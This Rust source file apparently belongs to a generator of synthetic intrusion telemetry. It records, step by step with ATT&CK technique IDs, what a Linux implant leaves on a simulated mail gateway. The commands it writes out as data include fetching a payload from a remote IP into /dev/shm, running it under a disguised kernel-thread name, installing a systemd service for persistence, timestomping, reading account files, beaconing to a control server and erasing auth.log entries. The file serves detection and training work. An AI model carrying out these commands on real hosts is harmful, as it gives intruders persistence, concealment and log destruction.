//! The mail gateway: an implant for Linux, as public reports on the actor name them (Rekoobe, after the free Tiny
//! SHell). Only what such a program leaves behind is told; its names here are invented.

use blanik_model::Timestamp;

use super::super::chronicle::Chronicle;
use super::super::clock::{after, minutes};
use super::super::linux::Shell;
use super::super::network::{MX01, SVC_PORTAL, WEB01};
use super::super::relays::{IMPLANT as CONTROL, SEKOIA};
use super::super::zeek::Traffic;
use super::{at, device_deed};

/// Where the program is fetched.
const STORE: &str = SEKOIA[0];
const UNIT: &str = "/etc/systemd/system/postfix-stats.service";
const PROGRAM: &str = "/usr/lib/postfix/sbin/pstatd";

/// Does this part.
pub fn tell(c: &mut Chronicle) {
    let account = SVC_PORTAL.account;
    let shell = Shell {
        on: &MX01,
        login: (1201, account),
        user: (1201, account),
        session: 911,
        tty: "pts1",
    };
    let time = at(c, "2022-11-05T22:31:00Z");
    let what = "The web application's key opens the mail gateway by SSH, from the web server.";
    c.step(device_deed("T1021.004", MX01.name, account, what).from(&WEB01), |c| {
        c.came_by_ssh(time, &MX01, account, WEB01.address);
        let traffic = Traffic { service: "ssh", millis: 1_400_000, sent: 31_000, received: 44_000 };
        c.flow(after(time, -700), WEB01.address, MX01.address, 22, traffic);
    });
    let what = "The program of the implant is fetched, made executable and dated back.";
    c.step(device_deed("T1105", MX01.name, account, what), |c| {
        let time = after(time, minutes(3));
        let fetch = ["curl", "-s", "-k", "-o", "/dev/shm/.p", "https://217.210.180.113/s/p64"];
        c.ran(time, shell, "/usr/bin/curl", &fetch, "/srv/users/svc-portal");
        let traffic = Traffic { service: "ssl", millis: 1_900, sent: 900, received: 412_300 };
        let flow = c.flow(after(time, 30), MX01.address, STORE, 443, traffic);
        c.shook_hands(&flow, STORE, "self signed certificate");
        c.ran(
            after(time, 9_000),
            shell,
            "/usr/bin/chmod",
            &["chmod", "755", "/dev/shm/.p"],
            "/srv/users/svc-portal",
        );
    });
    let what = "The implant is tried out of the memory file system.";
    c.step(device_deed("T1059.004", MX01.name, account, what), |c| {
        let time = after(time, minutes(4));
        c.ran(time, shell, "/dev/shm/.p", &["[kworker/1:2]"], "/srv/users/svc-portal");
    });
    let what = "As root the implant becomes a service that starts with the machine.";
    c.step(device_deed("T1543.002", MX01.name, "root", what), |c| {
        let time = after(time, minutes(9));
        let root = shell.as_root();
        c.used_sudo(time, &MX01, account, "/bin/bash");
        c.made_file(after(time, 8_000), root, "/usr/bin/cp", PROGRAM, "binaries");
        c.made_file(after(time, 21_000), root, "/usr/bin/tee", UNIT, "systemd");
        let enable = ["systemctl", "enable", "--now", "postfix-stats"];
        c.ran(after(time, 35_000), root, "/usr/bin/systemctl", &enable, "/root");
    });
    let what = "The program and its unit get the date of a neighbouring file.";
    c.step(device_deed("T1070.006", MX01.name, "root", what), |c| {
        let root = shell.as_root();
        let touch = ["touch", "-r", "/usr/lib/postfix/sbin/master", PROGRAM, UNIT];
        c.ran(after(time, minutes(11)), root, "/usr/bin/touch", &touch, "/root");
    });
    reports(c, time);
}

/// The implant reports every five or six weeks, to a relay by its bare address.
fn reports(c: &mut Chronicle, installed: Timestamp) {
    let what = "The implant reports to a relay, every five weeks or so.";
    c.step(device_deed("T1071.001", MX01.name, "root", what), |c| {
        let service = Shell::service(&MX01, (0, "root"));
        let mut time = after(installed, minutes(15));
        let end: Timestamp = "2024-10-01T00:00:00Z".parse().expect("a time");
        while time < end {
            c.dialled(time, service, PROGRAM, CONTROL, 443);
            let traffic = Traffic { service: "ssl", millis: 30_000, sent: 3_900, received: 2_200 };
            c.flow(after(time, 20), MX01.address, CONTROL, 443, traffic);
            time = after(time, minutes(60 * 24 * 35) + c.random.millis(0, minutes(60 * 24 * 6)));
        }
    });
    let time = at(c, "2023-08-12T23:02:00Z");
    let what = "The gateway's list of accounts and aliases is copied.";
    c.step(device_deed("T1087.001", MX01.name, "root", what), |c| {
        let service = Shell::service(&MX01, (0, "root"));
        c.ran(time, service, "/usr/bin/sh", &["sh", "-c", "cat /etc/passwd /etc/aliases"], "/");
    });
}

/// Takes the implant away.
pub fn clean(c: &mut Chronicle, time: Timestamp) {
    let service = Shell::service(&MX01, (0, "root"));
    let commands: [&[&str]; 3] = [
        &["systemctl", "disable", "--now", "postfix-stats"],
        &["rm", "-f", PROGRAM, UNIT],
        &["sed", "-i", "/svc-portal/d", "/var/log/auth.log"],
    ];
    for (index, command) in (0_i64..).zip(commands) {
        c.ran(
            after(time, index * 14_000),
            service,
            &format!("/usr/bin/{}", command[0]),
            command,
            "/",
        );
    }
}
